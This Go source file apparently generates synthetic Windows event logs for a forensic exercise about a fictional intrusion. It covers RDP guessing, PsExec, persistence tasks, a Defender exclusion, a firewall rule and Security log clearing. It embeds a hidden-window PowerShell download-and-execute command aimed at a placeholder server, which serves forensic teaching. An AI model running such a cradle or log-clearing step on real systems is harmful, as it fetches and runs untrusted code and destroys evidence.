package corpus

import (
	"cmp"
	"slices"
	"strings"
	"time"

	"github.com/artifactdump/artifactdump/corpus/evtx"
)

const logFolder = "Windows/System32/winevt/Logs/"

// firstRecords are the numbers of the first records of logs that do not begin
// with 1. The log of security was cleared, and numbers count on.
var firstRecords = map[string]uint64{"Security": 48_213}

// providerGUIDs are those that Windows registers; classic providers have none.
var providerGUIDs = map[string]string{
	"Microsoft-Windows-Security-Auditing":                        "{54849625-5478-4994-A5BA-3E3B0328C30D}",
	"Microsoft-Windows-Eventlog":                                 "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}",
	"Microsoft-Windows-Kernel-General":                           "{A68CA8B7-004F-D7B6-A698-07E2DE0F1F5D}",
	"Service Control Manager":                                    "{555908D1-A6D7-4695-8E1E-26931D2012F4}",
	"Microsoft-Windows-TaskScheduler":                            "{DE7B24EA-73C8-4A09-985D-5BDADCFA9017}",
	"Microsoft-Windows-PowerShell":                               "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
	"Microsoft-Windows-WMI-Activity":                             "{1418EF04-B0B4-4623-BF7E-D74AB47BBDAA}",
	"Microsoft-Windows-Bits-Client":                              "{EF1CC15B-46C1-414E-BB95-E76B077BD51E}",
	"Microsoft-Windows-Windows Defender":                         "{11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78}",
	"Microsoft-Windows-Windows Firewall With Advanced Security":  "{D1BC9AFF-2ABF-4D71-9146-ECB2A986EB85}",
	"Microsoft-Windows-TerminalServices-LocalSessionManager":     "{5D896912-022D-40AA-A3A8-4FA5515C76D7}",
	"Microsoft-Windows-TerminalServices-RemoteConnectionManager": "{C76BAA63-AE81-421C-B425-340B4B24157F}",
	"Microsoft-Windows-RemoteDesktopServices-RdpCoreTS":          "{1139C61B-B549-4251-8ED3-27250A1EDEC8}",
	"Microsoft-Windows-TerminalServices-ClientActiveXCore":       "{28AA95BB-D444-4719-A36F-40462168127E}",
	"Microsoft-Windows-SMBClient":                                "{988C59C5-0A1C-45B6-A555-0C62276E327D}",
	"Microsoft-Windows-Partition":                                "{412BDFF2-A8C4-470D-8F33-63FE0D8C20E2}",
	"Microsoft-Windows-Sysmon":                                   "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
	"Microsoft-Windows-DNS-Client":                               "{1C95126E-7EEA-49A9-A3FE-A378B03DDB4D}",
	"Microsoft-Windows-Shell-Core":                               "{30336ED4-E327-447C-9DE0-51B652C86108}",
	"Microsoft-Windows-GroupPolicy":                              "{AEA1B4FA-97D1-45F2-A64C-4D69FFFD92C9}",
}

// An eventOf is an event of the incident in short.
type eventOf struct {
	provider string
	id       uint16
	at       time.Time
	user     string    // SID of the header
	data     []string  // name, value, …
	userData string    // the element that the data are in, when they are not EventData
	stands   time.Time // places the record in its log, where the clock was set back
	bare     bool      // without a process: ReportEvent of a program writes none
}

// A logged is an event and its place in a log.
type logged struct {
	evtx.Event
	stands time.Time
}

// Events adds events to a log. Logs are written when all cases have run.
func (m *Machine) Events(channel string, list ...eventOf) {
	if m.logs == nil {
		m.logs = make(map[string][]logged)
	}
	for _, e := range list {
		out := evtx.Event{
			Provider: e.provider, GUID: providerGUIDs[e.provider], EventID: e.id, Level: 4, Keywords: 0x8000000000000000, Created: e.at,
			ProcessID: 788, ThreadID: 812, Channel: channel, Computer: Computer, UserSID: e.user,
		}
		if e.bare {
			out.ProcessID, out.ThreadID, out.Keywords = 0, 0, 0x80000000000000
		}
		if channel == "Security" {
			out.Level, out.Keywords = 0, 0x8020000000000000
		}
		var fields []evtx.Field
		for i := 0; i+1 < len(e.data); i += 2 {
			fields = append(fields, evtx.Field{Name: e.data[i], Value: evtx.Str(e.data[i+1])})
		}
		if e.userData != "" {
			out.UserData = &evtx.UserData{Name: e.userData, Namespace: "Event_NS", Fields: fields}
		} else {
			out.Data = fields
		}
		at := e.stands
		if at.IsZero() {
			at = e.at
		}
		m.logs[channel] = append(m.logs[channel], logged{out, at})
	}
}

// eventLogs builds the logs, each in the order of time.
func (m *Machine) eventLogs() map[string][]byte {
	files := make(map[string][]byte)
	for channel, list := range m.logs {
		list = slices.Clone(list)
		slices.SortStableFunc(list, func(a, b logged) int { return a.stands.Compare(b.stands) })
		var w evtx.Writer
		written := make([]evtx.Event, len(list))
		for i, e := range list {
			written[i] = e.Event
		}
		log := evtx.Log{Records: w.Records(cmp.Or(firstRecords[channel], 1), written...)}
		if channel == "System" || channel == "Application" {
			log.Unused = 1
		}
		files[logFolder+strings.ReplaceAll(channel, "/", "%4")+".evtx"] = log.Build()
	}
	return files
}

const (
	auditing  = "Microsoft-Windows-Security-Auditing"
	scm       = "Service Control Manager"
	operation = "/Operational"
	systemSID = "S-1-5-18"
)

// seconds after a moment.
func after(t time.Time, seconds float64) time.Time {
	return t.Add(time.Duration(seconds * float64(time.Second))).Truncate(100)
}

// subject are the fields of who did something.
func subject(sid, name, logonID string) []string {
	return []string{"SubjectUserSid", sid, "SubjectUserName", name, "SubjectDomainName", Computer, "SubjectLogonId", logonID}
}

// Log-on ids of the sessions of the story.
const (
	miraLogon   = "0x4f2a91"
	danielLogon = "0x5b1c3e"

	// Since the last start numbers are given out anew: daniel's is that of mira's session before it.
	sundayLogon = miraLogon
	secondLogon = "0x6e0b17" // mira's
)

// evtxFilesCase writes what the three oldest logs have beside the events of other
// cases: two reach back to the installation, and the one of security, which the
// intruder cleared, begins with the record of that.
func evtxFilesCase(m *Machine) {
	m.Events("Application", eventOf{provider: "Microsoft-Windows-Winlogon", id: 4104, at: Installed})
	m.Events("System", eventOf{provider: "EventLog", id: 6005, at: Installed},
		eventOf{provider: "EventLog", id: 6005, at: after(LastBoot, 9)})
	auditEventsCase(m)
	m.Events("Security", eventOf{provider: auditing, id: 4608, at: after(LastBoot, 6)})
}

// auditEventsCase: the Security log is cleared.
func auditEventsCase(m *Machine) {
	const channel = "Security"
	if slices.ContainsFunc(m.logs[channel], func(e logged) bool { return e.EventID == 1102 }) {
		return // another case wrote it
	}
	m.Events(channel, eventOf{provider: "Microsoft-Windows-Eventlog", id: 1102, at: after(CleanupTime, 2), userData: "LogFileCleared",
		data: subject(DanielSID, Daniel, danielLogon)})
	m.Events(channel, eventOf{provider: "Microsoft-Windows-Eventlog", id: 1100, at: after(LastShutdown, -3), userData: "ServiceShutdown"})
}

// logonEventsCase: the intruder's session ends, mira works on Saturday, and daniel
// logs on at the machine on Sunday.
func logonEventsCase(m *Machine) {
	const channel = "Security"
	logon := func(at time.Time, sid, name, id string) {
		m.Events(channel, eventOf{provider: auditing, id: 4624, at: at, data: append(subject(systemSID, Computer+"$", "0x3e7"),
			"TargetUserSid", sid, "TargetUserName", name, "TargetDomainName", Computer, "TargetLogonId", id, "LogonType", "2",
			"LogonProcessName", "User32 ",
			"AuthenticationPackageName", "Negotiate", "WorkstationName", Computer, "KeyLength", "0", "ProcessId", "0x3c4", "ProcessName",
			`C:\Windows\System32\svchost.exe`,
			"IpAddress", "127.0.0.1", "IpPort", "0")},
			eventOf{provider: auditing, id: 4672, at: after(at, 0.001),
				data: append(subject(sid, name, id), "PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeDebugPrivilege")})
	}
	logoff := func(at time.Time, sid, name, id, typ string) {
		m.Events(channel, eventOf{provider: auditing, id: 4634, at: at, data: []string{
			"TargetUserSid", sid, "TargetUserName", name, "TargetDomainName", Computer, "TargetLogonId", id, "LogonType", typ}})
	}
	logoff(after(IntrusionEnd, 4), DanielSID, Daniel, danielLogon, "10")
	logon(utc(2026, 3, 6, 23, 49, 50, 6610294), MiraSID, Mira, miraLogon)
	logoff(after(LastShutdown, -21), MiraSID, Mira, miraLogon, "2")
	logon(LastLogon, DanielSID, Daniel, sundayLogon)
	// mira is there for a while, and daniel's session stays.
	logon(SecondLogon, MiraSID, Mira, secondLogon)
	logoff(SecondLogoff, MiraSID, Mira, secondLogon, "2")
	m.Events("System", eventOf{provider: "Microsoft-Windows-Winlogon", id: 7001, at: after(IntrusionStart, 0.4), user: systemSID,
		data: []string{"TSId", "2", "UserSid", DanielSID}})
}

// accountEventsCase: a part of Windows lists the members of a group.
func accountEventsCase(m *Machine) {
	m.Events("Security", eventOf{provider: auditing, id: 4799, at: after(LastBoot, 40), data: append([]string{
		"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544"},
		append(subject(systemSID, Computer+"$", "0x3e7"),
			"CallerProcessId", "0x4c8", "CallerProcessName", `C:\Windows\System32\svchost.exe`)...)})
}

// serviceEventsCase: PsExec's service, which came from the neighbor.
func serviceEventsCase(m *Machine) {
	m.Events("System",
		eventOf{provider: scm, id: 7045, at: after(PsExecStart, -0.6), user: DanielSID,
			data: []string{"ServiceName", ServiceName, "ImagePath", `%SystemRoot%\PSEXESVC.exe`,
				"ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"}},
		eventOf{provider: scm, id: 7036, at: after(PsExecStart, -0.2), data: []string{"param1", ServiceName, "param2", "running"}},
		eventOf{provider: scm, id: 7036, at: after(LastBoot, 21), data: []string{"param1", "Windows Update", "param2", "running"}},
		// The intruder writes that the service had stopped.
		eventOf{provider: "System", id: 7, at: ForgedTime.Add(48 * time.Millisecond), user: DanielSID, bare: true,
			data: []string{"", "The " + ServiceName + " service entered the stopped state."}})
}

// taskEventsCase: the intruder's task is registered, and an ordinary one runs.
func taskEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-TaskScheduler"
	const defrag, action = `\Microsoft\Windows\Defrag\ScheduledDefrag`, `%windir%\system32\defrag.exe`
	m.Events(provider+operation,
		eventOf{provider: provider, id: 200, at: utc(2026, 3, 4, 18, 20, 12, 4411908), user: systemSID, data: []string{
			"TaskName", defrag, "ActionName", action, "TaskInstanceId", "{7C0E3E3C-51E5-4C0B-8F0C-0C7F5E1F8A11}", "EnginePID", "6120"}},
		eventOf{provider: provider, id: 201, at: utc(2026, 3, 4, 18, 31, 40, 998123), user: systemSID, data: []string{
			"TaskName", defrag, "TaskInstanceId", "{7C0E3E3C-51E5-4C0B-8F0C-0C7F5E1F8A11}", "ActionName", action, "ResultCode", "0",
			"EnginePID", "6120"}},
		eventOf{provider: provider, id: 106, at: PersistenceTime, user: DanielSID,
			data: []string{"TaskName", TaskName, "UserContext", Computer + `\` + Daniel}},
		eventOf{provider: provider, id: 106, at: after(SecondTaskTime, 0.21), user: DanielSID,
			data: []string{"TaskName", SecondTask, "UserContext", Computer + `\` + Daniel}},
		eventOf{provider: provider, id: 129, at: after(SyncerFired, 0.011), user: systemSID,
			data: []string{"TaskName", SecondTask, "Path", syncerShort, "ProcessID", "6312", "Priority", "16384"}},
		eventOf{provider: provider, id: 201, at: after(SyncerFired, 24), user: DanielSID, data: []string{
			"TaskName", SecondTask, "TaskInstanceId", "{0B52D7C4-1E0A-4D0E-9C63-5B1B4A0D7F22}", "ActionName", syncerShort, "ResultCode", "0",
			"EnginePID", "2196"}})
}

// powerShellEventsCase: an engine that the intruder started, and one script block
// in two parts from before the channel was switched off.
func powerShellEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-PowerShell"
	const block = "9f3a6a0e-6a57-4c5e-9a3b-2f7d3f0c1b77"
	script := func(at time.Time, n, text string) eventOf {
		return eventOf{provider: provider, id: 4104, at: at, user: MiraSID, data: []string{
			"MessageNumber", n, "MessageTotal", "2", "ScriptBlockText", text, "ScriptBlockId", block, "Path",
			`C:\Users\mira\Documents\report.ps1`}}
	}
	at := utc(2026, 3, 3, 1, 12, 40, 1180000)
	m.Events(provider+operation, script(at, "1", "$total = 0\nforeach ($f in Get-ChildItem $env:USERPROFILE\\Documents) {\n"),
		script(after(at, 0.002), "2", "  $total += $f.Length\n}\n$total\n"))
	engine := after(DiscoveryEnd, 95)
	m.Events("Windows PowerShell", eventOf{provider: "PowerShell", id: 400, at: engine, data: []string{"", "Available", "", "None", "",
		"\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.4291\r\n" +
			"\tHostApplication=powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://" + Server +
			"/a')\r\n\tEngineVersion=5.1.19041.4291"}})
}

// wmiEventsCase: a provider of Windows is loaded.
func wmiEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-WMI-Activity"
	m.Events(provider+operation, eventOf{provider: provider, id: 5857, at: after(LastBoot, 33), user: systemSID,
		userData: "Operation_StartedOperational", data: []string{
			"ProviderName", "CIMWin32", "Code", "0x0", "HostProcess", "wmiprvse.exe", "ProcessID", "3220", "ProviderPath",
			`%systemroot%\system32\wbem\cimwin32.dll`}})
}

// bitsEventsCase: a browser's update, and the intruder's download.
func bitsEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-Bits-Client"
	url := "http://" + Server + "/cache.dll"
	m.Events(provider+operation,
		eventOf{provider: provider, id: 59, at: after(ImplantStart, 130), user: DanielSID,
			data: []string{"transferId", "{0B3A64E2-50B2-4C8C-9D8B-0C5E5B6B0A01}",
				"name", "sync", "Id", "{2F8D2A30-4D5C-4B7E-8C1D-77D2D3C0E501}", "url", url, "bytesTotal", "151040"}},
		eventOf{provider: provider, id: 60, at: after(ImplantStart, 132), user: DanielSID,
			data: []string{"transferId", "{0B3A64E2-50B2-4C8C-9D8B-0C5E5B6B0A01}",
				"name", "sync", "Id", "{2F8D2A30-4D5C-4B7E-8C1D-77D2D3C0E501}", "url", url, "hr", "0", "bytesTotal", "151040",
				"bytesTransferred", "151040"}})
}

// defenderEventsCase: the exclusion of the implant's folder.
func defenderEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-Windows Defender"
	m.Events(provider+operation, eventOf{provider: provider, id: 5007, at: after(ExclusionTime, 0.2), user: systemSID, data: []string{
		"Product Name", "Microsoft Defender Antivirus", "Product Version", "4.18.26010.5", "Old Value", "",
		"New Value", `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public = 0x0`}})
}

// firewallEventsCase: the rule that lets the implant listen.
func firewallEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-Windows Firewall With Advanced Security"
	m.Events(provider+"/Firewall", eventOf{provider: provider, id: 2004, at: after(PersistenceTime, 190), user: "S-1-5-19", data: []string{
		"RuleId", "{0A4E9C55-6C0E-4D0B-8A6E-5B1F2A7D9C31}", "RuleName", "Host Process", "Origin", "1", "ApplicationPath", Implant,
		"Direction", "1", "Protocol", "6",
		"LocalPorts", "3390", "RemotePorts", "*", "Action", "3", "ModifyingUser", DanielSID, "ModifyingApplication",
		`C:\Windows\System32\netsh.exe`}})
}

// remoteDesktopEventsCase: guesses from the intruder's address, his session, and
// daniel's own way to the neighbor.
func remoteDesktopEventsCase(m *Machine) {
	const core, lsm, rcm = "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", "Microsoft-Windows-TerminalServices-LocalSessionManager",
		"Microsoft-Windows-TerminalServices-RemoteConnectionManager"
	const client = "Microsoft-Windows-TerminalServices-ClientActiveXCore"
	for i := range 6 {
		at := after(utc(2026, 3, 6, 17, 36, 48, 9014552), float64(9*i-45))
		m.Events(core+operation,
			eventOf{provider: core, id: 131, at: after(at, -0.8), user: "S-1-5-20",
				data: []string{"ConnType", "TCP", "ClientIP", Intruder + ":51844"}},
			eventOf{provider: core, id: 140, at: at, user: "S-1-5-20", data: []string{"IPString", Intruder}})
	}
	m.Events(core+operation, eventOf{provider: core, id: 131, at: after(IntrusionStart, -3), user: "S-1-5-20",
		data: []string{"ConnType", "TCP", "ClientIP", Intruder + ":51902"}})
	m.Events(rcm+operation, eventOf{provider: rcm, id: 1149, at: after(IntrusionStart, -1.2), user: "S-1-5-20", userData: "EventXML",
		data: []string{"Param1", Daniel, "Param2", "", "Param3", Intruder}})
	session := func(id uint16, at time.Time, address string) eventOf {
		data := []string{"User", Computer + `\` + Daniel, "SessionID", "2"}
		if address != "" {
			data = append(data, "Address", address)
		}
		return eventOf{provider: lsm, id: id, at: at, user: systemSID, userData: "EventXML", data: data}
	}
	m.Events(lsm+operation, session(21, IntrusionStart, Intruder), session(22, after(IntrusionStart, 1.5), Intruder),
		session(24, IntrusionEnd, Intruder), session(23, after(IntrusionEnd, 3), ""))
	m.Events("Microsoft-Windows-TerminalServices-RDPClient"+operation,
		eventOf{provider: client, id: 1024, at: after(PsExecStart, -300), user: DanielSID,
			data: []string{"Name", "Server Name", "Value", Neighbor, "CustomLevel", "Info"}})
}

// shareEventsCase: a connection to the neighbor broke off.
func shareEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-SMBClient"
	m.Events("Microsoft-Windows-SmbClient/Connectivity",
		eventOf{provider: provider, id: 30804, at: after(IntrusionEnd, 2), user: systemSID, data: []string{
			"ServerNameLength", "11", "ServerName", `\` + Neighbor, "Status", "0xC000020C"}})
}

// powerEventsCase: the last shutdown and the last start.
func powerEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-Kernel-General"
	m.Events("System",
		eventOf{provider: "User32", id: 1074, at: after(LastShutdown, -25), user: MiraSID,
			data: []string{"param1", `C:\Windows\System32\StartMenuExperienceHost.exe`, "param2", Computer,
				"param3", "Other (Unplanned)", "param4", "0x0", "param5", "power off", "param6", "", "param7", Computer + `\` + Mira}},
		eventOf{provider: "EventLog", id: 6006, at: after(LastShutdown, -2)},
		eventOf{provider: provider, id: 13, at: LastShutdown,
			data: []string{"StopTime", LastShutdown.Format("2006-01-02T15:04:05.0000000Z")}},
		eventOf{provider: provider, id: 12, at: LastBoot, user: systemSID,
			data: []string{"MajorVersion", "10", "MinorVersion", "0", "BuildVersion", "19045",
				"StartTime", LastBoot.Format("2006-01-02T15:04:05.0000000Z")}})
}

// clockEventsCase: when Windows was installed, the time of Tokyo was taken for UTC until its zone was known, and the
// clock went back nine hours. At the last start the clock of the firmware was behind.
func clockEventsCase(m *Machine) {
	set := after(Installed, -60)
	m.Events("System",
		eventOf{provider: "Microsoft-Windows-Kernel-General", id: 12, at: after(set, 9*3600-200), stands: after(set, -200), user: systemSID,
			data: []string{"MajorVersion", "10", "MinorVersion", "0", "BuildVersion", "19045",
				"StartTime", after(set, 9*3600-200).Format("2006-01-02T15:04:05.0000000Z")}},
		eventOf{provider: "Microsoft-Windows-Kernel-General", id: 1, at: set, user: systemSID, data: []string{
			"NewTime", set.Format("2006-01-02T15:04:05.0000000Z"), "OldTime", after(set, 9*3600).Format("2006-01-02T15:04:05.0000000Z"),
			"Reason", "1", "ProcessName", "", "ProcessID", "4"}})
	at := after(LastBoot, 14)
	m.Events("System", eventOf{provider: "Microsoft-Windows-Kernel-General", id: 1, at: at, user: "S-1-5-19", data: []string{
		"NewTime", at.Format("2006-01-02T15:04:05.0000000Z"), "OldTime", after(at, -0.7).Format("2006-01-02T15:04:05.0000000Z"),
		"Reason", "1",
		"ProcessName", `\Device\HarddiskVolume3\Windows\System32\svchost.exe`, "ProcessID", "1288"}})
}

// deviceEventsCase: daniel's stick.
func deviceEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-Partition"
	m.Events(provider+"/Diagnostic", eventOf{provider: provider, id: 1006, at: utc(2026, 3, 5, 2, 14, 9, 3310000), user: systemSID,
		data: []string{
			"DiskNumber", "1", "BusType", "7", "Manufacturer", "Kingston", "Model", "DataTraveler 3.0", "SerialNumber", "60A44C413FAEE2B0",
			"Capacity", "15518924800"}})
}

// installEventsCase: a program for PDF files.
func installEventsCase(m *Machine) {
	m.Events("Application", eventOf{provider: "MsiInstaller", id: 1033, at: utc(2025, 2, 11, 6, 40, 2, 0), user: MiraSID, data: []string{
		"", "PDF24 Creator", "", "11.15.1", "", "1033", "", "0", "", "geek software GmbH"}})
}

// crashEventsCase: the implant crashed, as its report says.
func crashEventsCase(m *Machine) {
	m.Events("Application", eventOf{provider: "Application Error", id: 1000, at: utc(2026, 3, 6, 18, 4, 12, 0), data: []string{
		"", "svchost.exe", "", "10.0.19041.1", "", "5e3c0a11", "", "cache.dll", "", "0.0.0.0", "", "64f1b2c0", "", "c0000005", "",
		"0000000000012a4c", "", "1f3c", "", "01d9a0c1b2d3e4f5",
		"", Implant, "", ImplantDLL, "", "0b7f8c3e-6a1d-4b7c-9a41-3d3b2c1e0f99", "", "", "", ""}})
}

// sysmonEventsCase: Sysmon was tried for two hours, in the year before; mira read the news.
func sysmonEventsCase(m *Machine) {
	const provider = "Microsoft-Windows-Sysmon"
	at := utc(2025, 3, 4, 0, 30, 0, 0)
	m.Events(provider+operation,
		eventOf{provider: provider, id: 16, at: at, user: MiraSID,
			data: []string{"UtcTime", "2025-03-04 00:30:00.000", "Configuration", `C:\Tools\Sysmon64.exe -i`, "ConfigurationFileHash", ""}},
		eventOf{provider: provider, id: 1, at: after(at, 60), user: systemSID,
			data: []string{"RuleName", "-", "UtcTime", "2025-03-04 00:31:00.000",
				"ProcessGuid", "{5F0C6D1E-4A54-67C6-6F01-000000001A00}", "ProcessId", "4120", "Image", `C:\Windows\System32\notepad.exe`,
				"CommandLine", "notepad.exe",
				"CurrentDirectory", `C:\Users\mira\`, "User", Computer + `\` + Mira, "LogonId", "0x31c2f", "IntegrityLevel", "Medium",
				"Hashes", "SHA1=" + strings.Repeat("1", 40) + ",MD5=" + strings.Repeat("2", 32) + ",SHA256=" + strings.Repeat("3", 64),
				"ParentProcessId", "3320", "ParentImage", `C:\Windows\explorer.exe`, "ParentCommandLine", `C:\Windows\Explorer.EXE`}},
		eventOf{provider: provider, id: 5, at: after(at, 95), user: systemSID, data: []string{
			"RuleName", "-", "UtcTime", "2025-03-04 00:31:35.000", "ProcessGuid", "{5F0C6D1E-4A54-67C6-6F01-000000001A00}",
			"ProcessId", "4120", "Image", `C:\Windows\System32\notepad.exe`, "User", Computer + `\` + Mira}},
		eventOf{provider: provider, id: 22, at: after(at, 300), user: systemSID,
			data: []string{"RuleName", "-", "UtcTime", "2025-03-04 00:35:00.000", "ProcessGuid", "{5F0C6D1E-4B44-67C6-7A01-000000001A00}",
				"ProcessId", "4388", "QueryName", "news.example", "QueryStatus", "0", "QueryResults", "::ffff:198.51.100.80;",
				"Image", `C:\Program Files\Google\Chrome\Application\chrome.exe`, "User", Computer + `\` + Mira}},
		eventOf{provider: provider, id: 3, at: after(at, 300.2), user: systemSID,
			data: []string{"RuleName", "-", "UtcTime", "2025-03-04 00:35:00.200", "ProcessGuid", "{5F0C6D1E-4B44-67C6-7A01-000000001A00}",
				"ProcessId", "4388", "Image", `C:\Program Files\Google\Chrome\Application\chrome.exe`, "User", Computer + `\` + Mira, "Protocol", "tcp", "Initiated", "true",
				"SourceIp", "192.0.2.23", "SourceHostname", Computer, "SourcePort", "50412", "DestinationIp", "198.51.100.80",
				"DestinationHostname", "news.example", "DestinationPort", "443"}},
		eventOf{provider: provider, id: 4, at: after(at, 7200), user: systemSID,
			data: []string{"UtcTime", "2025-03-04 02:30:00.000", "State", "Stopped", "Version", "15.15", "SchemaVersion", "4.90"}})
}

// directoryEventsCase: the list of accounts was opened by a part of Windows.
func directoryEventsCase(m *Machine) {
	m.Events("Security", eventOf{provider: auditing, id: 4661, at: after(LastBoot, 41),
		data: append(subject(systemSID, Computer+"$", "0x3e7"),
			"ObjectServer", "Security Account Manager", "ObjectType", "SAM_ALIAS", "ObjectName", "S-1-5-32-544", "HandleId", "0x1f2",
			"AccessMask", "0xc",
			"ProcessId", "0x4c8", "ProcessName", `C:\Windows\System32\lsass.exe`)})
}

// otherEventsCase: the Run key starts the implant, policies were applied, and an
// event that no catalogue has.
func otherEventsCase(m *Machine) {
	const shell = "Microsoft-Windows-Shell-Core"
	m.Events(shell+operation, eventOf{provider: shell, id: 9707, at: after(implantAtLogon, -0.1), user: DanielSID,
		data: []string{"Command", `"` + Implant + `" -s`}})
	m.Events("System", eventOf{provider: "Microsoft-Windows-GroupPolicy", id: 1500, at: after(LastBoot, 44), user: systemSID,
		data: []string{"SupportInfo1", "1", "SupportInfo2", "4423"}})
	const dns = "Microsoft-Windows-DNS-Client"
	m.Events(dns+operation, eventOf{provider: dns, id: 3008, at: utc(2026, 3, 6, 17, 54, 19, 8700000), user: DanielSID,
		data: []string{"QueryName", "search.example", "QueryType", "1", "QueryOptions", "1073766400", "QueryStatus", "0",
			"QueryResults", "198.51.100.61;"}})
	m.Events("Application", eventOf{provider: "PDF24", id: 7, at: after(LastLogon, 30), data: []string{"", "ready"}})
}

// eventLogCases are the cases of the chapter, for the table [Cases].
var eventLogCases = []Case{
	{"evtxfiles", "The log of security begins with the record of its clearing; two others reach back to the installation.", evtxFilesCase},
	{"eventlogons", "The intruder's session ends; mira works on Saturday; daniel logs on on Sunday.", logonEventsCase},
	{"eventaccounts", "Windows lists the administrators.", accountEventsCase},
	{"eventservices", "PsExec's service is installed and starts.", serviceEventsCase},
	{"eventtasks", "The intruder registers a task; the disk is defragmented.", taskEventsCase},
	{"eventprocesses", "The implant starts with daniel's log-on and runs a shell.", processEventsCase},
	{"eventpowershell", "A download on daniel's desktop, and a script of mira's in two parts.", powerShellEventsCase},
	{"eventwmi", "A provider of Windows is loaded.", wmiEventsCase},
	{"eventbits", "The implant's DLL is fetched in the background.", bitsEventsCase},
	{"eventdefender", "The implant's folder is excluded from scans.", defenderEventsCase},
	{"eventfirewall", "A rule lets the implant listen.", firewallEventsCase},
	{"eventrdp", "Six wrong passwords from the intruder's address, then a session; and a connection to the neighbor.",
		remoteDesktopEventsCase},
	{"eventshares", "A connection to the neighbor breaks off.", shareEventsCase},
	{"eventaudit", "The log of security is cleared.", auditEventsCase},
	{"eventpower", "The last shutdown and the last start.", powerEventsCase},
	{"eventclock", "The clock is set after the start.", clockEventsCase},
	{"eventdevices", "daniel's stick.", deviceEventsCase},
	{"eventinstalls", "A program for PDF files.", installEventsCase},
	{"eventcrashes", "The implant crashes.", crashEventsCase},
	{"eventsysmon", "Sysmon was tried for two hours, a year before.", sysmonEventsCase},
	{"eventdirectory", "Windows opens the group of administrators.", directoryEventsCase},
	{"eventlogs", "The Run key starts the implant; daniel looks up a name; policies are applied; a printer program is ready.", otherEventsCase},
}
